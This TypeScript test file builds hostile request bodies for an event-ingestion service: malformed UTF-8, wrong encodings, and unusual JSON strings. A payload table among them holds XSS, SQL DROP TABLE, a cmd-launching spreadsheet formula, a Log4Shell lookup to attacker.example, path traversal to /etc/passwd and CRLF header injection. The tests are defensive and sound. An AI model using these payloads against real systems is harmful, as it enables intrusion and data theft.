import { betweenNeighbours, newerPageView, pageView, rawMark, withRaw } from './event-json.ts';
import { eachOutcome, type HostileCase, refused } from './hostile-case.ts';

const event = JSON.stringify(pageView(2));

/** Bytes that are no UTF-8; each stands inside a string. */
const badBytes: Readonly<Record<string, readonly number[]>> = {
  'a lone continuation byte': [0x80],
  'the last continuation byte': [0xbf],
  'two continuation bytes': [0x80, 0xbf],
  'a first byte without a second': [0xc3],
  'three bytes cut to one': [0xe2],
  'three bytes cut to two': [0xe2, 0x82],
  'four bytes cut to one': [0xf0],
  'four bytes cut to two': [0xf0, 0x9f],
  'four bytes cut to three': [0xf0, 0x9f, 0x98],
  'an overlong slash in two bytes': [0xc0, 0xaf],
  'an overlong NUL in two bytes': [0xc0, 0x80],
  'an overlong quote in two bytes': [0xc0, 0xa2],
  'an overlong letter in two bytes': [0xc1, 0xa1],
  'an overlong slash in three bytes': [0xe0, 0x80, 0xaf],
  'an overlong euro sign in four bytes': [0xf0, 0x82, 0x82, 0xac],
  'a high surrogate': [0xed, 0xa0, 0x80],
  'a low surrogate': [0xed, 0xb0, 0x80],
  'a surrogate pair (CESU-8)': [0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80],
  'beyond the last code point': [0xf4, 0x90, 0x80, 0x80],
  'five bytes': [0xf8, 0x88, 0x80, 0x80, 0x80],
  'six bytes': [0xfc, 0x84, 0x80, 0x80, 0x80, 0x80],
  'the byte FE': [0xfe],
  'the byte FF': [0xff],
  'FE and FF': [0xfe, 0xff],
  'Latin-1': [...Buffer.from('Zürich', 'latin1')],
  'Windows-1252 quotes': [0x93, 0x78, 0x94],
  'Shift-JIS': [0x83, 0x65, 0x83, 0x58],
};

function withBytes(json: string, mark: string, bytes: readonly number[]): Buffer {
  const place = Buffer.byteLength(json.slice(0, json.indexOf(mark)));
  const whole = Buffer.from(json);
  return Buffer.concat([whole.subarray(0, place), Buffer.from(bytes), whole.subarray(place + Buffer.byteLength(mark))]);
}

const notUtf8 = Object.entries(badBytes).flatMap(([name, bytes]) => [
  refused(
    `no UTF-8: ${name} in a value`,
    { body: withBytes(JSON.stringify(pageView(2, { custom_properties: { a: 'MARK' } })), 'MARK', bytes) },
    400,
  ),
  refused(
    `no UTF-8: ${name} in a key`,
    { body: withBytes(JSON.stringify(pageView(2, { custom_properties: { MARK: 1 } })), 'MARK', bytes) },
    400,
  ),
  refused(`no UTF-8: ${name} after the body`, { body: Buffer.concat([Buffer.from(event), Buffer.from(bytes)]) }, 400),
  refused(`no UTF-8: ${name} before the body`, { body: Buffer.concat([Buffer.from(bytes), Buffer.from(event)]) }, 400),
]);

function utf16be(text: string): Buffer {
  return Buffer.from(text, 'utf16le').swap16();
}

function utf32(text: string, isLittle: boolean): Buffer {
  const units = [...text].map((character) => character.codePointAt(0) ?? 0);
  const bytes = Buffer.alloc(units.length * 4);
  units.forEach(
    (unit, index) => void (isLittle ? bytes.writeUInt32LE(unit, index * 4) : bytes.writeUInt32BE(unit, index * 4)),
  );
  return bytes;
}

const wide = [
  ...Object.entries({
    'UTF-16 LE': Buffer.from(event, 'utf16le'),
    'UTF-16 BE': utf16be(event),
    'UTF-16 LE with a byte order mark': Buffer.from(`\ufeff${event}`, 'utf16le'),
    'UTF-16 BE with a byte order mark': utf16be(`\ufeff${event}`),
    'UTF-32 LE': utf32(event, true),
    'UTF-32 BE': utf32(event, false),
    'UTF-32 LE with a byte order mark': utf32(`\ufeff${event}`, true),
    'UTF-32 BE with a byte order mark': utf32(`\ufeff${event}`, false),
    'UTF-7': Buffer.from(event.replaceAll('"', '+ACI-')),
    'half UTF-8, half UTF-16': Buffer.concat([
      Buffer.from(event.slice(0, 50)),
      Buffer.from(event.slice(50), 'utf16le'),
    ]),
    EBCDIC: Buffer.from([0xc0, 0x7f, 0x85, 0xa5, 0x7f, 0x7a, 0xf1, 0xd0]),
  }).flatMap(([name, body]) => [
    refused(`the body in ${name}`, { body }, 400),
    refused(`the body in ${name}, as text/plain`, { headers: { 'content-type': 'text/plain' }, body }, 400),
  ]),
  refused('two byte order marks before the body', { body: `\ufeff\ufeff${event}` }, 400),
  refused('a byte order mark after the body', { body: `${event}\ufeff` }, 400),
  refused('a byte order mark between events', { body: `[${event},\ufeff${event}]` }, 400),
  refused('nothing but a byte order mark', { body: '\ufeff' }, 400),
  // RFC 8259: a reader may pass over it, and what editors save begins with one.
  eachOutcome('a byte order mark before the body', { body: `\ufeff${event}` }, ['accepted']),
];

/** JSON string texts that are legal, and what they mean. */
const oddTexts: Readonly<Record<string, string>> = {
  'a lone high surrogate': '"a\\ud83d"',
  'a lone low surrogate': '"\\ude00a"',
  'surrogates in the wrong order': '"\\ude00\\ud83d"',
  'two high surrogates': '"\\ud83d\\ud83d"',
  'a surrogate pair, escaped': '"\\ud83d\\ude00"',
  'a NUL, escaped': '"a\\u0000b"',
  'all control characters, escaped': `"${Array.from({ length: 32 }, (_, code) => `\\u${code.toString(16).padStart(4, '0')}`).join('')}"`,
  'a delete character': '"a\u007fb"',
  'C1 control characters': '"a\u0080\u0085\u009fb"',
  'a line separator': '"a\u2028b"',
  'a paragraph separator': '"a\u2029b"',
  'a byte order mark': '"\ufeffa"',
  'CR LF, escaped': '"a\\r\\nb"',
  'CR LF and a header': '"a\\r\\nset-cookie: x=1\\r\\n\\r\\n<html>"',
  'LF and a second JSON line': '"a\\n{\\"frame_id\\":\\"x\\"}"',
  'a backslash at the end': '"a\\\\"',
  'escaped quotes': '"\\"},{\\""',
  'an escaped slash': '"<\\/script>"',
  'right to left override': '"a\u202eb"',
  'zero-width characters': '"a\u200b\u200d\u2060b"',
  'combining marks': `"Z${'\u0310'.repeat(200)}"`,
  'a non-character': '"\uffff\ufffe"',
  'the last code point': '"\u{10ffff}"',
  'an emoji of many parts': '"👩‍👩‍👧‍👦🏳️‍🌈"',
  'the replacement character': '"\ufffd"',
  HTML: '"<script>alert(1)</script>"',
  SQL: '"\'); DROP TABLE events; --"',
  'a formula': '"=cmd|\' /C calc\'!A0"',
  'a lookup': `"\${jndi:ldap://attacker.example/x}"`,
  'a path': '"../../../../etc/passwd"',
  'a format string': '"%s%n%x"',
  'the word __proto__': '"__proto__"',
  'the word constructor': '"constructor"',
};

const odd = Object.entries(oddTexts).flatMap(([name, text]) => {
  const value = JSON.parse(text) as string;
  const asMember = (key: string) => `{${key}:1}`;
  return [
    eachOutcome(
      `${name} in a custom property`,
      { body: withRaw(pageView(2, { custom_properties: { a: rawMark } }), text) },
      ['accepted'],
      { stored: { '/custom_properties/a': value } },
    ),
    eachOutcome(
      `${name} in an unknown key's value`,
      { body: betweenNeighbours(withRaw(newerPageView(2, { more: [rawMark] }), text)) },
      ['accepted', 'accepted', 'accepted'],
    ),
    eachOutcome(
      `${name} in an event that is refused`,
      { body: betweenNeighbours(withRaw(pageView(2, { ts: 'never', custom_properties: { a: rawMark } }), text)) },
      ['accepted', 'schema-invalid', 'accepted'],
    ),
    eachOutcome(
      `${name} as event_type`,
      { body: betweenNeighbours(withRaw(pageView(2, { event_type: rawMark }), text)) },
      ['accepted', 'schema-unknown', 'accepted'],
    ),
    eachOutcome(`${name} as event_id`, { body: betweenNeighbours(withRaw(pageView(2, { event_id: rawMark }), text)) }, [
      'accepted',
      'schema-invalid',
      'accepted',
    ]),
    ...(value === '__proto__' || value === 'constructor'
      ? []
      : [
          eachOutcome(
            `${name} in a custom property's name`,
            { body: withRaw(pageView(2, { custom_properties: rawMark }), asMember(text)) },
            ['accepted'],
          ),
          eachOutcome(
            `${name} as a key that nobody knows`,
            { body: betweenNeighbours(withRaw({ ...pageView(2), [rawMark]: rawMark }, `${text}:1`)) },
            ['accepted', 'schema-invalid', 'accepted'],
          ),
        ]),
  ];
});

/** What is no UTF-8, and text that is legal and seldom expected. */
export const texts: readonly HostileCase[] = [...notUtf8, ...wide, ...odd];
